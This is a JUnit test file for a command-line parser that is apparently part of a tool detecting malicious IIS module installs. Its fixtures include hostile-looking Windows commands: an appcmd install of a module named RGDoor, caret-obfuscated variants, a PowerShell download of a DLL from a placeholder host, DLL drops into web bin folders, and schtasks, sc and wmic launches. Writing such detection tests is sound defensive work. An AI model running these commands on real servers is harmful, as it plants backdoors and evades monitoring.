package dev.iiswarden.event;

import static dev.iiswarden.event.CommandLines.hasArgument;
import static dev.iiswarden.event.CommandLines.hasOption;
import static dev.iiswarden.event.CommandLines.hasWords;
import static dev.iiswarden.event.CommandLines.optionValues;
import static dev.iiswarden.event.CommandLines.writtenFile;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTimeout;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.util.List;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CommandLinesTest {
  private static final String APPCMD =
      "\"C:\\Windows\\System32\\inetsrv\\appcmd.exe\" INSTALL module /name:RGDoor"
          + " /image:\"C:\\Program Files\\x y\\rg.dll\"";

  /** The examples of "Parsing C command-line arguments", and those of the program's name. */
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '\0',
      value = {
        "a.exe \"a b c\" d e         | a b c;d;e",
        "a.exe \"ab\\\"c\" \"\\\\\" d    | ab\"c;\\;d",
        "a.exe a\\\\\\b d\"e f\"g h      | a\\\\\\b;de fg;h",
        "a.exe a\\\\\\\"b c d            | a\\\"b;c;d",
        "a.exe a\\\\\\\\\"b c\" d e      | a\\\\b c;d;e",
        "a.exe a\"b\"\" c d              | ab\" c d",
        "a.exe \"a \"\"b\"\" c\" d          | a \"b\" c;d",
        "cmd.exe /c ins^tall \"a^b\" c^^  | /c;install;a^b;c^",
        "a.exe ins^tall               | ins^tall",
        "a.exe C:\\dir\\ b\\             | C:\\dir\\;b\\",
        "a.exe in\"\"stall \"\" x        | install;;x",
        "a.exe \"open end                | open end",
        "a.exe\t\tx \t y                 | x;y",
        "\"C:\\a b\\\\\" x               | x",
        "\"C:\\a b\\\" x                 | x",
        "C:\\\"a b\"\\c.exe x            | x",
      })
  void argumentsAreWhatTheProgramGets(String commandLine, String arguments) {
    assertEquals(List.of(arguments.split(";", -1)), Arguments.in(commandLine));
  }

  @ParameterizedTest
  @ValueSource(strings = {"", " ", "a.exe", "a.exe ", "\"a b.exe\"", "\"a b", "\\", "\""})
  void theProgramIsNoArgument(String commandLine) {
    assertEquals(List.of(), Arguments.in(commandLine));
  }

  /** As for the program itself, which finds its name missing. */
  @Test
  void aBlankAtTheStartLeavesTheNameEmpty() {
    assertEquals(List.of("a.exe", "x"), Arguments.in(" a.exe x"));
  }

  @Test
  void anArgumentIsAWholeOneInAnyLetterCase() {
    assertTrue(hasArgument(APPCMD, "add", "install"));
    assertTrue(hasArgument(APPCMD, "MODULE"));
    assertTrue(hasArgument(APPCMD, "/image:*.dll"));
    assertTrue(hasArgument(APPCMD, "/image:c:\\program files\\x y\\rg.dll"));
    assertFalse(hasArgument(APPCMD, "instal", "mod", "add"));
    assertFalse(hasArgument(APPCMD, "*appcmd*"));
    assertFalse(hasArgument("a.exe \"install module\"", "install"));
    assertFalse(hasArgument(APPCMD));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/i", "-i", "--i", "/I", "\u2013i", "\u2014i", "\u2015i", "\"/i\"", "-i:x", "/i=x", "/i:",
        "-i x"
      })
  void anOptionBeginsWithAnySign(String written) {
    for (String option : List.of("i", "/i", "-i", "--I")) {
      assertTrue(hasOption("gacutil.exe " + written, "u", option), option);
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "i",
        "/in",
        "/ x",
        "-",
        "/",
        "---i",
        "x/i",
        "-x:i",
        "//",
        "i:x",
        "\"/i x\"",
        "/:i"
      })
  void nothingElseIsThatOption(String written) {
    assertFalse(hasOption("gacutil.exe " + written, "/i"), written);
  }

  @Test
  void theProgramIsNoOption() {
    assertFalse(hasOption("/i", "i"));
    assertFalse(hasOption("a.exe /i"));
    assertFalse(hasOption("a.exe / -", "", "/"));
  }

  @Test
  void whatIsMissingMeetsNoCondition() {
    assertFalse(hasArgument(null, "*"));
    assertFalse(hasOption(null, "i"));
  }

  @Test
  void hostileTextTakesLinearTime() {
    String quotes = "a.exe " + "\\\"".repeat(1_000_000) + "\\".repeat(1_000_000) + " \"";
    String signs = "a.exe " + "- ".repeat(1_000_000);
    assertTimeout(
        Duration.ofSeconds(5),
        () -> {
          assertFalse(hasArgument(quotes, "install", "*x"));
          assertFalse(hasOption(signs, "i"));
        });
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "appcmd \"install\"  \"module\" /name:x | appcmd install module /name:x",
        "\"C:\\Windows\\System32\\inetsrv\\appcmd.exe\" ins\"\"tall module | C:\\Windows\\System32\\inetsrv\\appcmd.exe install module",
        "appcmd | appcmd",
      })
  void unquotedIsWhatTheProgramReads(String commandLine, String expected) {
    assertEquals(expected, CommandLines.unquoted(commandLine));
  }

  @Test
  void unquotedSeparatesArgumentsByBlanks() {
    assertEquals("appcmd add module", CommandLines.unquoted("appcmd\tadd\t\"module\""));
    assertEquals("", CommandLines.unquoted(""));
    assertNull(CommandLines.unquoted(null));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "appcmd install module /name:m",
        "appcmd.exe\tinstall\tmodule\t/name:m",
        "appcmd.exe \"install\" \"MODULE\" /name:m",
        "appcmd ins\"\"tall modules",
        "appcmd install /name:m module",
        "cmd /c a^p^pc^md ins^tall mo^dule",
      })
  void wordsAreArgumentsOneAfterTheOther(String commandLine) {
    assertTrue(hasWords(commandLine, "install", "module*"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "install module",
        "appcmd module install",
        "appcmd install x module",
        "appcmd \"install module\"",
        "appcmd /install module",
      })
  void otherArgumentsAreNotThoseWords(String commandLine) {
    assertFalse(hasWords(commandLine, "install", "module*"));
    assertFalse(hasWords(null, "install"));
    assertFalse(hasWords("a.exe install"));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "a.exe /image:D:\\m.mod /name:x | D:\\m.mod",
        "a.exe -IMAGE=x --image y /image | x;y",
        "a.exe \"/image:C:\\a b\\m.dll\" | C:\\a b\\m.dll",
        "a.exe /image -x | ",
        "a.exe /+[name='x',image='D:\\m.dll'] | D:\\m.dll",
        "a.exe /+\"[image='C:\\a, b\\m.dll',name='x']\" | C:\\a, b\\m.dll",
        "a.exe /+\"environmentVariables.[name='A',image='b;c']\" | b;c",
        "a.exe /[name='x'].image:D:\\m.dll | D:\\m.dll",
        "a.exe /+[image=x,b='image'] | x",
        "a.exe /app.image:x image:y | ",
        "a.exe /+[image='open | open",
      })
  void anOptionHasValues(String commandLine, @Nullable String values) {
    assertEquals(
        values == null ? List.of() : List.of(values.split(";(?=y)", -1)),
        optionValues(commandLine, "image"));
  }

  @Test
  void theValuesOfSeveralOptionsComeInOrder() {
    assertEquals(
        List.of("A.B, A", "x", "y"),
        optionValues("p /type:\"A.B, A\" /image:x /z:1 -type y", "image", "/type"));
    assertEquals(List.of(), optionValues(null, "image"));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "cmd /c ren C:\\inetpub\\wwwroot\\bin\\m.tmp m.dll | C:\\inetpub\\wwwroot\\bin\\m.dll",
        "cmd /c move D:\\lib\\m.tmp D:\\lib\\m.dll | D:\\lib\\m.dll",
        "cmd /c m^ove D:\\lib\\m.tmp D:\\lib\\m.dll | D:\\lib\\m.dll",
        "cmd /c copy /y x.dll D:\\sites\\shop\\bin\\m.dll | D:\\sites\\shop\\bin\\m.dll",
        "cmd /c copy x.dll D:\\bin\\ | D:\\bin\\x.dll",
        "cmd /c copy x.dll D:\\bin | D:\\bin\\x.dll",
        "cmd /c copy | ",
        "cmd /c del x.dll | ",
        "cmd /c copy *.dll D:\\bin | ",
        "cmd /c cd x & copy a.txt b.txt && ren D:\\a.tmp a.dll & echo x | D:\\a.dll",
        "cmd.exe /s /c \"copy \"C:\\a b\\x.dll\" \"D:\\c d\\y.dll\"\" | D:\\c d\\y.dll",
        "robocopy a C:\\inetpub\\wwwroot\\bin m.dll | C:\\inetpub\\wwwroot\\bin\\m.dll",
        "robocopy a b | ",
        "xcopy /y a.dll D:\\b\\ | D:\\b\\a.dll",
        "powershell Rename-Item D:\\lib\\m.tmp m.dll | D:\\lib\\m.dll",
        "powershell -c rni -Path D:\\lib\\m.tmp -NewName m.dll | D:\\lib\\m.dll",
        "powershell -c \"cp -Force 'D:\\a b\\x.tmp' 'D:\\a b\\y.dll'\" | D:\\a b\\y.dll",
        "powershell -c \"$d='D:\\lib'; Move-Item x.tmp -Destination ('D:\\lib\\'+'m.dll')\" | D:\\lib\\m.dll",
        "powershell ni -Path D:\\a -Name x.dll | D:\\a\\x.dll",
        "powershell ni D:\\a -ItemType Directory | ",
        "cmd /c powershell curl http://x/y -OutFile C:\\ProgramData\\m.dll | C:\\ProgramData\\m.dll",
        "notepad C:\\m.dll | ",
      })
  void aCommandWritesAFileUnderANewName(String commandLine, @Nullable String file) {
    assertEquals(file, writtenFile(commandLine));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "cmd /c schtasks /create /tn x /tr \"C:\\Users\\Public\\i.bat\" | cmd /c C:\\Users\\Public\\i.bat | true",
        "cmd /c sc create x binPath= \"cmd /c a install m\" | cmd /c A  install m | false",
        "cmd /c sc create x binPath= \"cmd /c a install m\" | a INSTALL m | true",
        "wmic process call create \"D:\\x\\y.exe\" | D:\\x\\y.exe | true",
        "cmd /c dir | cmd /c C:\\Users\\Public\\i.bat | false",
        "cmd /c C:\\Windows\\System32\\sc.exe x | C:\\Windows\\System32\\sc.exe | false",
        "cmd /c y | y | false",
        " | cmd | false",
        "cmd | | false",
      })
  void aCommandAsksForAProcess(
      @Nullable String command, @Nullable String started, boolean isAskedFor) {
    assertEquals(isAskedFor, CommandLines.asksFor(command, started));
  }
}
